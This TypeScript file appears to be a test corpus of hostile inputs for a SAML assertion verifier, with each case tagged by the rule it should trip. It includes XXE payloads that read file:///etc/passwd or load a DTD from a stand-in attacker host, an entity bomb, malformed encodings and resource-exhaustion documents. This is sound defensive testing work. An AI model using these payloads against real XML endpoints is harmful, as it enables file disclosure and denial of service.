import type { Attack } from '../corpus.ts';
import { envelope, type Means } from '../forge.ts';

const one = (id: string, document: string | Uint8Array, ...rules: string[]): Attack => ({
  id,
  family: 'hostile',
  document,
  rules,
});

/** The assertion with one more attribute value, outside of what was signed. */
const stuffed = (good: string, value: string): string =>
  good.replace(
    '</saml2:AttributeStatement>',
    `<saml2:Attribute Name="x"><saml2:AttributeValue>${value}</saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement>`,
  );

const numbered = (count: number, write: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => write(index)).join('');

/** Namespaces declared once and used by every child: canonical XML writes all of them on each. */
const usedAgain = (namespaces: number, children: number): string =>
  `<r${numbered(namespaces, (index) => ` xmlns:p${index}="urn:${'n'.repeat(240)}${index}"`)}>` +
  `<c${numbered(namespaces, (index) => ` p${index}:a=""`)}/>`.repeat(children) +
  '</r>';

const nestedDeclarations = (depth: number, each: number): string =>
  numbered(depth, (level) => `<d${numbered(each, (index) => ` xmlns:p${level}_${index}="u"`)}>`) + '</d>'.repeat(depth);

/** Text that attacks the reader rather than the signature. */
export function hostileCases({ good }: Means): Attack[] {
  const bytes = Buffer.from(good, 'utf8');
  const utf16 = Buffer.from(`\uFEFF${good}`, 'utf16le');
  return [
    one('doctype', `<!DOCTYPE a>${good}`, 'XML-READ'),
    one('doctype-lower-case', `<!doctype a>${good}`, 'XML-READ'),
    one(
      'entity',
      `<!DOCTYPE a [<!ENTITY x "899900000029">]>${good.replace('<saml2:NameID>899900000011', '<saml2:NameID>&x;')}`,
      'XML-READ',
    ),
    one('entity-external', `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${good}`, 'XML-READ'),
    one(
      'entity-parameter',
      `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attaquant.example/x.dtd"> %x;]>${good}`,
      'XML-READ',
    ),
    one(
      'entity-bomb',
      `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${good}`,
      'XML-READ',
    ),
    one('entity-undeclared', good.replace('<saml2:NameID>', '<saml2:NameID>&inconnue;'), 'XML-READ'),
    one('default-attribute', `<!DOCTYPE a [<!ATTLIST saml2:NameID Format CDATA "x">]>${good}`, 'XML-READ'),
    one('utf-16', utf16, 'XML-ENCODING'),
    one('latin-1', Buffer.from(good, 'latin1'), 'XML-ENCODING'),
    one('declared-utf-7', Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${good}`), 'XML-READ'),
    one('invalid-utf-8', Buffer.concat([bytes.subarray(0, 300), Buffer.of(0xc3), bytes.subarray(300)]), 'XML-ENCODING'),
    one(
      'overlong-utf-8',
      Buffer.concat([bytes.subarray(0, 300), Buffer.of(0xc0, 0xbc), bytes.subarray(300)]),
      'XML-ENCODING',
    ),
    one('nul', good.replace('<saml2:NameID>', '<saml2:NameID>\0'), 'XML-CHARACTER'),
    one('control-reference', good.replace('<saml2:NameID>', '<saml2:NameID>&#0;'), 'XML-CHARACTER'),
    one('lone-surrogate', good.replace('<saml2:NameID>', '<saml2:NameID>&#xD800;'), 'XML-READ', 'XML-CHARACTER'),
    one('noncharacter', good.replace('<saml2:NameID>', '<saml2:NameID>\uFFFE'), 'XML-CHARACTER'),
    one('truncated-half', good.slice(0, good.length / 2), 'XML-READ'),
    one('truncated-end', good.slice(0, -1), 'XML-READ'),
    one('two-roots', good + good, 'XML-READ', 'SAML-COUNT'),
    one('trailing-text', `${good}x`, 'XML-READ'),
    one('trailing-element', `${good}<x/>`, 'XML-READ'),
    one('nothing', '', 'XML-READ'),
    one('no-xml', '{"assertion":true}', 'XML-READ'),
    one(
      'wrong-nesting',
      good.replace('</saml2:NameID></saml2:Subject>', '</saml2:Subject></saml2:NameID>'),
      'XML-READ',
    ),
    one('attribute-twice', good.replace(' Version="2.0"', ' Version="2.0" Version="2.0"'), 'XML-READ'),
    one('deep', envelope(good, '', '<a>'.repeat(3000) + '</a>'.repeat(3000)), 'XML-READ'),
    one('wide', envelope(good, '', '<a/>'.repeat(150_000)), 'XML-READ'),
    one(
      'many-attributes',
      good.replace(' Version', `${Array.from({ length: 500 }, (_, index) => ` a${index}="x"`).join('')} Version`),
      'XML-READ',
    ),
    one('huge', envelope(good, '', `<a>${'x'.repeat(17 * 1024 * 1024)}</a>`), 'XML-READ'),
    one('huge-value', good.replace('<saml2:NameID>', `<saml2:NameID>${'8'.repeat(200_000)}`), 'SIG-DIGEST'),
    one('huge-value-beyond', good.replace('<saml2:NameID>', `<saml2:NameID>${'8'.repeat(400_000)}`), 'XML-LIMITS'),
    one('many-used-namespaces', stuffed(good, usedAgain(12, 400)), 'XML-LIMITS'),
    one(
      'long-namespace',
      stuffed(good, `<r xmlns:p="${'u'.repeat(20_000)}">${'<p:b/>'.repeat(450)}</r>`),
      'XML-LIMITS',
    ),
    one('many-declarations', stuffed(good, `<r>${nestedDeclarations(7, 14).repeat(2)}</r>`), 'XML-LIMITS'),
    one('many-elements-inside', stuffed(good, '<b/>'.repeat(9_000)), 'XML-LIMITS'),
    one('huge-digest', good.replace('<ds:DigestValue>', `<ds:DigestValue>${'A'.repeat(900_000)}`), 'SIG-BASE64'),
    one(
      'huge-certificate',
      good.replace('<ds:X509Certificate>', `<ds:X509Certificate>${'A'.repeat(900_000)}`),
      'SIG-BASE64',
    ),
    one('unclosed-comment', good.replace('<saml2:NameID>', '<saml2:NameID><!--'), 'XML-READ'),
  ];
}
